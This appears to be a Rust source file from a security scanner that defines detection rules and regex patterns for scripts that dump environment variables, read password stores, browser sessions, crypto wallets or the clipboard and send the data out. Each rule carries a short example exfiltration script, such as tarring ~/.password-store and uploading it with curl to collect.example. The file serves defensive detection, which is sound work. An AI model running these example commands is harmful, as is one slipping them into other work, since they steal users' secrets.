//! PA2xx, part 4: collecting secrets that belong to other programs. Part 1 is in [`super::code`].

use crate::finding::{Family, FindingSeverity::*};
use crate::rule::{Matcher::*, Pattern, Rule, RuleScope::*, example, pattern_except};

/// Sending data to another machine.
pub(super) const SEND: Pattern = pattern_except(
    "\
        curl,wget,post,put(,upload,socket,nc ,ncat,smtp,sendall,scp ,dig ,nslookup,gethostbyname,getaddrinfo,urlopen,http.,\
        net::http,resolv,httpclient,reqwest,urlsession,invoke-,requests.get,httpx.get,fetch(,/dev/tcp,\
        openssl,sendmail,mail ,mailx,mutt,rclone,aws s3,gsutil,sftp,curl_setopt,xmlhttprequest,gist,rsync,\
        ftplib,paramiko,telnetlib,sendbeacon,websocket,senddocument,sendmessage,iwr,irm,transfertype,\
        .send,.end,.write,send_message,method,netcat,fetch,ping ,put (,patch,request",
    &[
        r"\bcurl\b[^|]*\s(-d|-F|-T|--data\S*|--form|--upload-file|--json|-X\s*(POST|PUT))\b|\bcurl\b.{0,120}(\$\(|\x60|[?&]\w+=\$)",
        r"\bwget\b.*--(post|body)-(data|file)|\b(requests|httpx|session|client|axios|aiohttp)\.(post|put|patch)\s*\(",
        r"urlopen\s*\(.*(data|Request)|Request\s*\(.*data\s*=|method:?\s*=?\s*['\x22](POST|PUT)['\x22]",
        r"\|\s*(nc|ncat|netcat)\s+\S+\s+\d+|\.sendall\s*\(|smtplib\.|\bscp\s+\S+\s+\S+@|(dig|nslookup|ping)\s+.{0,40}\$\(|\b(gethostbyname|getaddrinfo)\s*\(\s*[a-z_]\w*\s*[,)]|\bcommand::new\(\s*\x22curl\x22",
        r"\b(nc|ncat|netcat)\s+(-\S+\s+(\d+\s+)?)*[\w.$\x22{}-]+\s+[\d$\x22{}\w]+\s*<|\bcurl\b[^\n]{0,200}(\s|=)@-|/dev/tcp/[\w$]|\bopenssl\s+s_client\b.{0,80}<|\b(sendmail|mailx?|mutt)\s+(-\S+\s+)*.{0,40}@|\brclone\s+(copy|copyto|sync|move|rcat)\b|\baws\s+s3\s+(cp|sync|mv)\s|\bgsutil\s+(\S+\s+)?(cp|rsync)\s|\bsftp\s.{0,60}@|curlopt_postfields|\bxmlhttprequest\b|\b(requests|httpx|http)\.request\s*\(\s*[\x22\x27](POST|PUT)|\bgh\s+gist\s+create|\bgist\.create|\brsync\s+.{0,80}\w@[\w.-]+:",
        r"\bftplib\.|\bparamiko\.|\btelnetlib\.|http\.client\.\w+|\bsendbeacon\s*\(|\bnew\s+websocket\s*\(|websocket\.create_connection|senddocument|sendmessage\?|\b(invoke-webrequest|invoke-restmethod|iwr|irm)\b.{0,200}-(body|infile)\b|uploaddata|-transfertype\s+upload|\bsocket\.(send|sendto)\s*\(|\bs\.send(all|to)?\s*\(|\br\.end\s*\(\s*\w|\breq\.(write|end)\s*\(\s*\w|method\s*=\s*['\x22](POST|PUT)['\x22]|\bsend_message\s*\(|urlopen\s*\(\s*(req\w*|request)\b",
        r"\bwget\b.{0,160}[?&]\w+=['\x22]?(\$|\x60)|\b(urlopen|requests\.get|httpx\.get|fetch)\s*\(\s*[a-z]?['\x22\x60]https?://[^'\x22\x60]*[?&=][^\n]{0,120}(\+|\{|%)|\bfetch\s*\([^\n)]{0,160},\s*\{",
        r"\bhttp\.(post|newrequest)\w*\s*\(|net::http|\bresolv(::dns)?\.|\bhttpclient\b|\breqwest::|\burlsession\b|\b\w+\.post\s*\(",
        r"(invoke-webrequest|invoke-restmethod|iwr|irm)\b.*-method\s+(post|put)|uploadstring|uploadfile",
    ],
    r"https?://(localhost|127\.0\.0\.1|0\.0\.0\.0)([^\w.-]|$)",
);

/// The environment as a whole.
const ENVIRONMENT: Pattern = pattern_except(
    "\
        environ,process.env,tojson,printenv,env >,env),(env,env:,getenvironmentvariables,export -p,env|,env |,\
        /proc/self/environ,env.to_h,$_env,getenv(),env ),env>",
    &[
        r"\b(dumps|stringify|str|repr|urlencode|encode|b64encode|dict|list|join)\s*\(.{0,120}\b(os\.environ|process\.env)\b\s*([),}\]]|\.(items|copy)\(\))|\b(for|of|in)\b.{0,60}\b(os\.environ(\.items\(\)|\s*[:)\]])|object\.(entries|keys|values)\(process\.env\)\s*[:)\]])|\btojson\s*\(\s*secrets\s*\)",
        r"object\.(entries|keys|values)\s*\(\s*process\.env\s*\)|:\s*process\.env\s*[,}]|=\s*process\.env\s*;|\b(body|data|json|params|payload)\s*[:=]\s*(dict\()?\{?\s*(\*\*)?(os\.environ|process\.env)\b\s*[)},\n]",
        r"(^|[^.\w/-])(printenv|env|export\s+-p)\s*(\)|\||>>?\s*\S)|/proc/(self|\$\$|1)/environ|\b(get-childitem|gci|dir|ls)\s+env:|getenvironmentvariables\s*\(|env\.to_h\b|json_encode\s*\(\s*(\$_env|getenv\(\))",
    ],
    r"\benv\s*[:=]\s*(\{|dict|os\.environ|process\.env)|subprocess|spawn|execfile|\benv\s*\|\s*(grep|sort|cut|awk|sed)|\bprintenv\s*\|\s*(grep|sort|cut)|NODE_ENV",
);

/// Password stores, and the sessions of desktop programs.
const STORES: Pattern = pattern_except(
    "\
        .password-store,keyrings,export-secret-keys,secret-tool,dump-keychain,export-secret,keychain-db,\
        vaultcmd,cmdkey,cryptunprotectdata,win32crypt,browser_cookie3,safe storage,safestorage,tdata,\
        local storage,leveldb,discord,state.vscdb,bw export,bw list,op item,local state,signal/config,\
        kwallet,lsass,ntds.dit,sam hive,hklm\\sam,mimikatz,lazagne,keepass,.kdbx,network/cookies,web data,\
        id.json,wallets,exodus,keystore,ledger live,atomic,credentialmanager,passwordvault,_history,\
        near-credentials,sui_config,keystores,coinomi,guarda,wasabi,sparrow,trezor suite,jaxx,mytonwallet,\
        keepassxc-cli,pass show,chrome-extension_,extension settings,.bitcoin,.litecoin,.dogecoin,.monero,browsercookie,login.keychain,hklm,\
        security",
    &[
        r"\.password-store\b|local/share/keyrings|--export-secret-(sub)?keys(\s+(--armor|-a))*\s*($|[|>)\n;]|2>)|secret-tool\s+search\s+--all|security['\x22\s,]+(dump-keychain|export)\b|keychains?/login\.keychain|\bvaultcmd\b.{0,20}/list|\bcmdkey\s+/list|passwordvault\b.{0,60}retrieveall|kwallet(-query|d)",
        r"cryptunprotectdata|\bwin32crypt\b|browser_?cookie3|(chrome|brave|edge|chromium)\s+safe\s+storage|['\x22]local\s+state['\x22]|/local\s+state\b|network/cookies\b|\blsass\b|ntds\.dit|reg\s+save\s+hklm\\+(sam|system|security)|mimikatz|lazagne",
        r"(slack|discord\w*|teams|telegram|signal|whatsapp|element|code|cursor)\b.{0,60}(local\s+storage|leveldb|tdata|state\.vscdb|storage)|local\s+storage['\x22\s,/\\]+leveldb|telegram\s+desktop['\x22\s,/\\]+tdata|\btdata['\x22\s,/\\]+key_datas?|state\.vscdb",
        r"chrome-extension_[a-p]{32}|local\s+extension\s+settings|\.near-credentials|sui_config|\.foundry['\x22\s,/\\]+keystores|\b(coinomi|guarda|wasabi\s?wallet|walletwasabi|sparrow|trezor\s+suite|jaxx|mytonwallet)['\x22\s,/\\]+\S{0,24}(wallet|client|storage|leveldb|config)|exodus\.wallet|\.electrum['\x22\s,/\\]+wallets|ledger\s+live|atomic['\x22\s,/\\]+local\s+storage|\.(bitcoin|litecoin|dogecoin|monero)['\x22\s,/\\]+\S*wallet|\.ethereum['\x22\s,/\\]+keystore|solana['\x22\s,/\\]+id\.json",
        r"\bbw\s+(export|list\s+items)\b|\bop\s+item\s+(list|get)\b.{0,60}--reveal|(glob|find|walk)\b.{0,60}\.kdbx|keepassxc-cli\s+export|\bfor\b.{0,120}\bpass\s+show\b",
        r"\b(cat|open|read\w*|cp|copy\w*|tar|zip|base64|tail)\b.{0,60}\.(bash|zsh)_history\b",
    ],
    r"page\.context|playwright|puppeteer",
);

/// The clipboard, the keyboard and the screen.
const SPIES: Pattern = pattern_except(
    "\
        pbpaste,xclip,xsel,wl-paste,get-clipboard,pyperclip,clipboard.readtext,clipboardy,pynput,\
        keyboard.,getasynckeystate,imagegrab,screencapture,gnome-screenshot,iohook,\
        global-key-listener,mss()",
    &[
        r"\bpbpaste\b|\bxclip\b.{0,40}-o|\bxsel\b.{0,40}(-o|-b)|\bwl-paste\b|\bget-clipboard\b|pyperclip\.(paste|waitfor)|clipboard\.readtext|clipboardy\.read",
        r"pynput\.keyboard|from\s+pynput\s+import|keyboard\.(on_press|hook|record)\s*\(|getasynckeystate|imagegrab\.grab|\bscreencapture\s+-|iohook|global-key-listener",
    ],
    r"page\.|navigator\.clipboard",
);

pub(super) const RULES: &[Rule] = &[
    Rule {
        id: "PA220",
        family: Family::Code,
        severity: High,
        title: "collects all environment variables or secrets, and sends data out",
        reason: "the environment contains the keys and tokens of the user",
        help: "do not run it; if it ran, replace the keys in the environment of that machine",
        scope: Any,
        matcher: Pair { first: ENVIRONMENT, second: SEND, max_lines: 8 },
        example: example(
            "scripts/a.sh",
            "#!/bin/sh\nexport -p > /tmp/state\ncurl --data-binary @/tmp/state https://collect.example/s\n",
        ),
    },
    Rule {
        id: "PA221",
        family: Family::Code,
        severity: Critical,
        title: "reads password stores, wallets or the sessions of other programs, and sends data out",
        reason: "this combination is typical of credential theft",
        help: "do not run it; if it ran, change the passwords and end the sessions on that machine",
        scope: Code,
        matcher: Pair { first: STORES, second: SEND, max_lines: 12 },
        example: example(
            "scripts/a.sh",
            "#!/bin/sh\ntar cf /tmp/s ~/.password-store\ncurl -T /tmp/s https://collect.example/s\n",
        ),
    },
    Rule {
        id: "PA222",
        family: Family::Code,
        severity: Medium,
        title: "reads password stores, wallets or the sessions of other programs",
        reason: "few scripts have a reason to do this",
        help: "find out why; these locations are not available in the sandbox",
        scope: Code,
        matcher: Line(STORES),
        example: example("scripts/a.sh", "#!/bin/sh\nls -R ~/.password-store\n"),
    },
    Rule {
        id: "PA230",
        family: Family::Code,
        severity: High,
        title: "reads the clipboard, the keyboard or the screen, and sends data out",
        reason: "it can record passwords and private messages",
        help: "find out what is sent, and when; do not run it otherwise",
        scope: Code,
        matcher: Pair { first: SPIES, second: SEND, max_lines: 12 },
        example: example(
            "scripts/a.sh",
            "#!/bin/sh\nwhile sleep 5; do pbpaste | curl -s --data-binary @- https://collect.example/c; done\n",
        ),
    },
];
